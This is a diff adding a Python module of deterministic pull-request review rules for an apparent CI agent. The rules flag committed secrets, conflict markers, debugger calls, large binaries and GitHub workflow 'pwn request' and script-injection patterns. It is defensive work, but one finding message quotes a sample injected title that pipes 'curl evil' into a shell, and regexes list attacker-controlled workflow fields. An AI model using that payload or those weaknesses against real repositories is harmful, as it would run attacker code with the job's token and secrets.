@@ -1,0 +1,473 @@
+"""Deterministic review findings: the floor no model answer can lower.
+
+Each rule looks only at what the pull request *adds* (a secret that was already there is not
+this change's fault, and re-reporting it on every pull request floods reviews):
+
+- secrets of a known shape in added lines (:func:`find_secrets`), never quoting the value;
+- merge-conflict markers left in a file;
+- debugger calls that stop a program (``breakpoint()``, ``pdb.set_trace()``, ``binding.pry``,
+  ``debugger;``…), matched as statements in files of that language only. ``console.log`` is
+  deliberately not one: it is the normal way a Node CLI or script prints, and flagging it
+  would bury real findings;
+- binary files of a size that bloats every clone;
+- workflow edits that introduce known-dangerous patterns: ``pull_request_target`` together
+  with a checkout of the pull request's head (the "pwn request"), and attacker-controlled
+  ``${{ github.event… }}`` expressions inside ``run:`` scripts (script injection).
+
+Scanning 200,000 changed lines line by line with every secret pattern is slow, so each rule
+first asks the file's raw diff text for a cheap pre-filter match and parses only candidates.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator, Mapping
+from hashlib import sha256
+from pathlib import PurePosixPath
+from typing import Annotated, Literal
+
+import yaml
+from pydantic import BaseModel, BeforeValidator, ConfigDict, Field, PlainSerializer
+
+from cicd_agent.analysis.diff import Diff, FileDiff
+from cicd_agent.analysis.redact import SecretHit, find_secrets
+from cicd_agent.severity import Severity, parse_severity
+
+LARGE_BINARY_BYTES = 1024 * 1024
+"""A binary of 1 MiB or more is worth a word: every clone and CI checkout pays for it forever."""
+HUGE_BINARY_BYTES = 50 * 1024 * 1024
+"""GitHub warns at 50 MiB and refuses files over 100 MiB."""
+
+
+def _severity(value: object) -> Severity:
+    if isinstance(value, Severity):
+        return value
+    if isinstance(value, int):
+        return Severity(value)
+    return parse_severity(str(value))
+
+
+SeverityField = Annotated[
+    Severity,
+    BeforeValidator(_severity),
+    PlainSerializer(lambda level: level.label, return_type=str),
+]
+
+FindingSource = Literal["deterministic", "model"]
+
+RULE_DESCRIPTIONS: dict[str, str] = {
+    "secret": "A credential of a known shape was added to the repository",
+    "merge-conflict": "Unresolved merge-conflict markers were added",
+    "debugger": "A debugger call that stops the program was left in",
+    "large-binary": "A large binary file was added to the repository",
+    "workflow-pwn-request": "pull_request_target workflow checks out the pull request's code",
+    "workflow-script-injection": "Untrusted event data is expanded into a workflow script",
+}
+"""One line per deterministic rule (SARIF rule descriptions, README)."""
+
+
+class Finding(BaseModel):
+    """One problem on one file (and line, when it has one). Renders as a comment, an
+    annotation and a SARIF result; ``line`` None means the whole file (a binary)."""
+
+    model_config = ConfigDict(frozen=True, extra="forbid")
+
+    rule: str
+    severity: SeverityField
+    category: str
+    path: str
+    line: int | None = None
+    start_line: int | None = None
+    title: str
+    body: str
+    suggestion: str | None = None
+    confidence: float = Field(default=1.0, ge=0.0, le=1.0)
+    source: FindingSource = "deterministic"
+
+    @property
+    def fingerprint(self) -> str:
+        """Stable across runs and line shifts (rule, file and title), for SARIF and dedupe."""
+        return sha256(f"{self.rule}\0{self.path}\0{self.title}".encode()).hexdigest()[:32]
+
+
+def deterministic_findings(diff: Diff, workflow_texts: Mapping[str, str]) -> list[Finding]:
+    """Every deterministic finding of ``diff``, most severe first.
+
+    ``workflow_texts`` holds the head version of the workflow files :func:`workflow_paths`
+    names: a dangerous combination needs the whole file, not only the added lines.
+    """
+    found: list[Finding] = []
+    for changed in diff.files:
+        if changed.status == "deleted":
+            continue
+        if changed.is_binary:
+            found.extend(_large_binary(changed))
+            continue
+        found.extend(_secrets(changed))
+        found.extend(_conflict_markers(changed))
+        found.extend(_debugger_calls(changed))
+        if changed.path in workflow_texts:
+            found.extend(workflow_findings(changed, workflow_texts[changed.path]))
+    return sort_findings(found)
+
+
+def sort_findings(findings: Iterable[Finding]) -> list[Finding]:
+    """Most severe first, then deterministic before model, then by place."""
+    return sorted(
+        findings,
+        key=lambda f: (-f.severity, f.source != "deterministic", f.path, f.line or 0, f.rule),
+    )
+
+
+# ------------------------------------------------------------------------------------ secrets
+
+# Literal anchors of every shape find_secrets knows, lower-cased: a line without one of them
+# cannot hold a secret of a known shape, so only lines with one are scanned for real.
+_SECRET_WORDS = (
+    "private key", "ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "akia", "asia", "abia",
+    "acca", "sk-", "aiza", "xox", "hooks.slack", "sk_", "rk_", "npm_", "pypi-", "eyj", "://",
+    "accountkey=", "secret", "passw", "token", "api_key", "api-key", "apikey", "access_key",
+    "access-key", "accesskey", "private_key", "private-key", "privatekey", "credential", "auth",
+)  # fmt: skip
+_HEURISTIC_KINDS = frozenset({"assigned secret", "JSON web token"})
+_SECRET_LABELS = {"assigned secret": "hard-coded secret"}
+
+
+def _secrets(changed: FileDiff) -> Iterator[Finding]:
+    if not changed.may_contain(_SECRET_WORDS, ignore_case=True):
+        return
+    for number, text in changed.added_lines():
+        lowered = text.lower()
+        if not any(word in lowered for word in _SECRET_WORDS):
+            continue
+        for kind in sorted({_specific_kind(text, hit) for hit in find_secrets(text)}):
+            # Shapes with a vendor prefix are almost never false; "password = ..." may be a
+            # test fixture, so it is high rather than critical.
+            severity = Severity.HIGH if kind in _HEURISTIC_KINDS else Severity.CRITICAL
+            label = _SECRET_LABELS.get(kind, kind)
+            article = "an" if label[:1].lower() in "aeiou" else "a"
+            yield Finding(
+                rule="secret",
+                severity=severity,
+                category="security",
+                path=changed.path,
+                line=number,
+                title=f"Possible {label} committed",
+                body=(
+                    f"This line adds what looks like {article} {label}. Anyone who can read the "
+                    "repository (and its forks and clones) can use it. If it is real, revoke "
+                    "it now, remove it from the history, and load it from a secret store or "
+                    "an environment variable instead."
+                ),
+            )
+
+
+def _specific_kind(text: str, hit: SecretHit) -> str:
+    """``token = "ghp_…"`` matches as an assignment first; the value's own shape is better."""
+    if hit.kind != "assigned secret":
+        return hit.kind
+    inner = [h.kind for h in find_secrets(text[hit.start : hit.end]) if h.kind != hit.kind]
+    return inner[0] if inner else hit.kind
+
+
+# ------------------------------------------------------------------------- conflict markers
+
+_CONFLICT_OPEN = re.compile(r"^(?:<{7}|>{7}|\|{7})(?: |$)")
+_CONFLICT_ANY = re.compile(r"^(?:<{7}|>{7}|\|{7})(?: |$)|^={7}$")
+_CONFLICT_WORDS = ("<<<<<<<", ">>>>>>>", "|||||||")
+
+
+def _conflict_markers(changed: FileDiff) -> Iterator[Finding]:
+    # "=======" alone is a Markdown/reStructuredText heading underline, so it only counts when
+    # an unambiguous marker is in the same file.
+    if not changed.may_contain(_CONFLICT_WORDS):
+        return
+    lines = [(n, t) for n, t in changed.added_lines() if _CONFLICT_ANY.match(t)]
+    if not any(_CONFLICT_OPEN.match(text) for _, text in lines):
+        return
+    first = lines[0][0]
+    yield Finding(
+        rule="merge-conflict",
+        severity=Severity.HIGH,
+        category="correctness",
+        path=changed.path,
+        line=first,
+        title="Unresolved merge-conflict markers",
+        body=(
+            f"{len(lines)} merge-conflict marker line(s) were added to this file (first on "
+            f"line {first}). The file will not work as intended until the conflict is resolved."
+        ),
+    )
+
+
+# ---------------------------------------------------------------------------- debugger calls
+
+_PY = r"^\s*(?:breakpoint\(\s*\)|(?:i?pdb|pudb|ipdb|pdbpp)\.(?:set_trace|post_mortem)\("
+_PY += (
+    r"|import\s+(?:i?pdb|pudb)\b|from\s+(?:i?pdb|pudb)\s+import\b|from\s+IPython\s+import\s+embed)"
+)
+_DEBUGGERS: tuple[tuple[frozenset[str], re.Pattern[str], Severity, str], ...] = (
+    (
+        frozenset({".py", ".pyw"}),
+        re.compile(_PY),
+        Severity.HIGH,
+        "stops the program and waits for a debugger on standard input",
+    ),
+    (
+        frozenset({".rb", ".rake", ".erb"}),
+        re.compile(r"^\s*(?:binding\.(?:pry|irb)|byebug|debugger)\b(?!\s*[=:(])"),
+        Severity.HIGH,
+        "stops the program at this line",
+    ),
+    (
+        frozenset({".ex", ".exs"}),
+        re.compile(r"^\s*(?:require\s+IEx;\s*)?IEx\.pry\b"),
+        Severity.HIGH,
+        "stops the process at this line",
+    ),
+    (
+        frozenset({".go"}),
+        re.compile(r"^\s*runtime\.Breakpoint\(\)"),
+        Severity.HIGH,
+        "raises a breakpoint trap that crashes the program outside a debugger",
+    ),
+    (
+        frozenset({".js", ".jsx", ".mjs", ".cjs", ".ts", ".tsx", ".vue", ".svelte"}),
+        re.compile(r"^\s*debugger\s*;?\s*(?://.*)?$"),
+        Severity.MEDIUM,
+        "pauses execution whenever developer tools are open",
+    ),
+    (
+        frozenset({".php"}),
+        re.compile(r"^\s*(?:xdebug_break\(\)|eval\(\\Psy\\sh\(\)\))"),
+        Severity.HIGH,
+        "stops the request at this line",
+    ),
+)
+_IMPORT = re.compile(r"^\s*(?:import|from)\s")
+_DEBUGGER_WORDS = (
+    "breakpoint", "pdb", "pudb", "IPython", "binding.", "byebug", "debugger", "IEx.pry",
+    "runtime.Breakpoint", "xdebug_break", "Psy",
+)  # fmt: skip
+
+
+def _debugger_calls(changed: FileDiff) -> Iterator[Finding]:
+    suffix = PurePosixPath(changed.path).suffix.lower()
+    rule = next((r for r in _DEBUGGERS if suffix in r[0]), None)
+    if rule is None or not changed.may_contain(_DEBUGGER_WORDS):
+        return
+    _, pattern, severity, effect = rule
+    hits = [(n, t) for n, t in changed.added_lines() if pattern.match(t)]
+    calls = [(n, t) for n, t in hits if not _IMPORT.match(t)]
+    # `import pdb` is only reported when no call is: one leftover, one comment.
+    for number, text in calls or hits:
+        yield Finding(
+            rule="debugger",
+            severity=severity,
+            category="correctness",
+            path=changed.path,
+            line=number,
+            title="Leftover debugger call",
+            body=f"`{text.strip()[:80]}` {effect}. Remove it before merging.",
+        )
+
+
+# ------------------------------------------------------------------------------- binaries
+
+
+def _large_binary(changed: FileDiff) -> Iterator[Finding]:
+    if changed.size is None or changed.size < LARGE_BINARY_BYTES:
+        return
+    mib = changed.size / (1024 * 1024)
+    severity = Severity.HIGH if changed.size >= HUGE_BINARY_BYTES else Severity.MEDIUM
+    verb = "adds" if changed.status == "added" else "changes"
+    yield Finding(
+        rule="large-binary",
+        severity=severity,
+        category="maintainability",
+        path=changed.path,
+        title=f"Large binary file ({mib:.1f} MiB)",
+        body=(
+            f"This pull request {verb} a {mib:.1f} MiB binary file. Git keeps every version "
+            "of it, so every clone and CI checkout downloads it from now on. Consider Git "
+            "LFS, a release asset or an artifact store."
+        ),
+    )
+
+
+# ------------------------------------------------------------------------------ workflows
+
+_WORKFLOW = re.compile(r"^\.github/workflows/[^/]+\.ya?ml$")
+_ACTION = re.compile(r"(?:^|/)action\.ya?ml$")
+# Fields an outside contributor controls (GitHub Security Lab's list), plus github.head_ref.
+_UNTRUSTED = re.compile(
+    r"github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)"
+    r"|github\.event\.(?:comment|review|review_comment)\.body"
+    r"|github\.event\.pages\.[^.\s}]+\.page_name"
+    r"|github\.event\.(?:commits\.[^.\s}]+|head_commit)\.(?:message|author\.(?:email|name))"
+    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)"
+    r"|github\.event\.workflow_run\.(?:head_branch|display_title"
+    r"|head_commit\.(?:message|author\.(?:email|name)))"
+    r"|github\.head_ref"
+)
+_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}")
+_HEAD_CHECKOUT = re.compile(
+    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref"
+    r"|refs/pull/|github\.event\.pull_request\.merge_commit_sha"
+)
+_SCRIPT_CHECKOUT = re.compile(
+    r"gh\s+pr\s+checkout|git\s+fetch\b.*\bpull/|git\s+(?:checkout|switch)\b.*"
+    r"(?:github\.event\.pull_request\.head|github\.head_ref)"
+)
+
+
+def workflow_paths(diff: Diff) -> list[str]:
+    """Workflow and action files this diff adds or changes (their head text is needed)."""
+    return [
+        f.path
+        for f in diff.files
+        if f.status != "deleted"
+        and not f.is_binary
+        and (_WORKFLOW.match(f.path) or _ACTION.search(f.path))
+    ]
+
+
+def workflow_findings(changed: FileDiff, text: str) -> list[Finding]:
+    """Dangerous patterns this change introduces into a workflow (or composite action) file."""
+    try:
+        root = yaml.compose(text, Loader=yaml.SafeLoader)
+    except yaml.YAMLError:
+        return []  # not our job to lint YAML; GitHub will refuse the file itself
+    if not isinstance(root, yaml.MappingNode):
+        return []
+    added = {number for number, _ in changed.added_lines()}
+    lines = text.splitlines()
+    found = list(_script_injections(changed.path, root, lines, added))
+    if _WORKFLOW.match(changed.path):
+        found.extend(_pwn_request(changed.path, root, lines, added))
+    return found
+
+
+def _mapping_items(node: yaml.Node) -> Iterator[tuple[str, yaml.Node, yaml.Node]]:
+    if isinstance(node, yaml.MappingNode):
+        for key, value in node.value:
+            if isinstance(key, yaml.ScalarNode):
+                yield str(key.value), key, value
+
+
+def _walk(node: yaml.Node) -> Iterator[yaml.Node]:
+    """Every node of the document, depth first."""
+    stack = [node]
+    while stack:
+        current = stack.pop()
+        yield current
+        if isinstance(current, yaml.MappingNode):
+            for key, value in current.value:
+                stack += [value, key]
+        elif isinstance(current, yaml.SequenceNode):
+            stack.extend(reversed(current.value))
+
+
+def _scalar_lines(node: yaml.Node) -> range:
+    """1-based file lines a scalar spans. A block scalar (``|``, ``>``) ends at column 0 of
+    the line after its last line, which must not count (it may be the next key)."""
+    start, end = node.start_mark, node.end_mark
+    last = end.line if end.column == 0 and end.line > start.line else end.line + 1
+    return range(start.line + 1, last + 1)
+
+
+def _script_injections(
+    path: str, root: yaml.Node, lines: list[str], added: set[int]
+) -> Iterator[Finding]:
+    for node in _walk(root):
+        for key, _, value in _mapping_items(node):
+            is_script = key == "run" or (key == "script" and _uses_github_script(node))
+            if not is_script or not isinstance(value, yaml.ScalarNode):
+                continue
+            for number in _scalar_lines(value):
+                if number not in added or number > len(lines):
+                    continue
+                expressions = [m.group(1) for m in _EXPRESSION.finditer(lines[number - 1])]
+                tainted = [e.strip() for e in expressions if _UNTRUSTED.search(e)]
+                if tainted:
+                    yield Finding(
+                        rule="workflow-script-injection",
+                        severity=Severity.HIGH,
+                        category="security",
+                        path=path,
+                        line=number,
+                        title="Untrusted input expanded into a script",
+                        body=(
+                            f"`${{{{ {tainted[0]} }}}}` is written by whoever opens the issue, "
+                            "pull request or commit, and GitHub pastes it into the script "
+                            'before the shell runs it: a title such as `"; curl evil | sh #` '
+                            "runs with this job's token. Pass it through `env:` and use the "
+                            'variable quoted (`"$TITLE"`) instead.'
+                        ),
+                    )
+
+
+def _uses_github_script(step: yaml.Node) -> bool:
+    for key, _, value in _mapping_items(step):
+        if key == "uses" and isinstance(value, yaml.ScalarNode):
+            return str(value.value).startswith("actions/github-script")
+    return False
+
+
+def _pwn_request(
+    path: str, root: yaml.Node, lines: list[str], added: set[int]
+) -> Iterator[Finding]:
+    trigger = _trigger_line(root)
+    if trigger is None:
+        return
+    checkouts = list(_head_checkouts(root, lines))
+    if not checkouts:
+        return
+    introduced = [n for n in checkouts if n in added]
+    if trigger not in added and not introduced:
+        return
+    line = introduced[0] if introduced else checkouts[0]
+    yield Finding(
+        rule="workflow-pwn-request",
+        severity=Severity.CRITICAL,
+        category="security",
+        path=path,
+        line=line,
+        title="pull_request_target checks out the pull request's code",
+        body=(
+            "This workflow runs on `pull_request_target`, which has a write token and the "
+            "repository's secrets even for pull requests from forks, and it checks out the "
+            "pull request's head. Any build step, script or dependency in that code then runs "
+            "with those secrets. Use `pull_request` for building untrusted code, and publish "
+            "results from a separate `workflow_run` workflow."
+        ),
+    )
+
+
+def _trigger_line(root: yaml.Node) -> int | None:
+    """The line naming ``pull_request_target`` under ``on:``, or None."""
+    for key, _, value in _mapping_items(root):
+        if key not in ("on", "true"):
+            continue
+        for node in _walk(value):
+            if isinstance(node, yaml.ScalarNode) and node.value == "pull_request_target":
+                return int(node.start_mark.line) + 1
+    return None
+
+
+def _head_checkouts(root: yaml.Node, lines: list[str]) -> Iterator[int]:
+    """Lines that check out the pull request's head: a checkout ``ref:`` or a git command."""
+    for node in _walk(root):
+        items = {key: value for key, _, value in _mapping_items(node)}
+        uses = items.get("uses")
+        if uses and isinstance(uses, yaml.ScalarNode) and "actions/checkout" in uses.value:
+            for key, _, value in _mapping_items(items.get("with", uses)):
+                if key not in ("ref", "repository") or not isinstance(value, yaml.ScalarNode):
+                    continue
+                if _HEAD_CHECKOUT.search(str(value.value)) or "head.repo" in str(value.value):
+                    yield int(value.start_mark.line) + 1
+        run = items.get("run")
+        if isinstance(run, yaml.ScalarNode):
+            for number in _scalar_lines(run):
+                if number <= len(lines) and _SCRIPT_CHECKOUT.search(lines[number - 1]):
+                    yield number
